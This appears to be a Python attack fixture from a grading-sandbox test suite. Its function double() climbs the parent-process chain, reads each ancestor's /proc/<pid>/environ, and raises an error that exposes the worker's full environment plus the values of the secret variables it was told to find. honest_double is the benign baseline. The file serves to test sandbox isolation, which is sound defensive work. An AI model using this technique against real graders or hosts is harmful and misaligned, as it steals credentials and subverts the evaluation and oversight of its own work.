"""Attack: leak the grader's environment in an error message.

Raises with the worker's whole environment, plus what it can read of its ancestors' environments
(/proc/<pid>/environ up the parent chain: the fork server, then the grader itself). To stay
harmless if the sandbox fails, it reports only how many foreign variables it could read and the
values of the variables probe.json names (`secret_names`, standing in for "everything").
"""

import json
import os


def _ancestors() -> list[int]:
    chain, pid = [], os.getppid()
    while pid > 1 and len(chain) < 10:
        chain.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as stream:
                pid = int(stream.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return chain


def double(x):
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "probe.json")) as stream:
        wanted = json.load(stream).get("secret_names", [])
    readable, leaked = 0, {}
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/environ", "rb") as stream:
                entries = stream.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for entry in entries:
            name, _, value = entry.partition("=")
            if name and name not in os.environ:
                readable += 1
                if name in wanted:
                    leaked[name] = value
    raise Exception(f"{dict(os.environ)} | readable foreign variables: {readable}; leaked: {leaked}")


def honest_double(x):
    return 2 * x
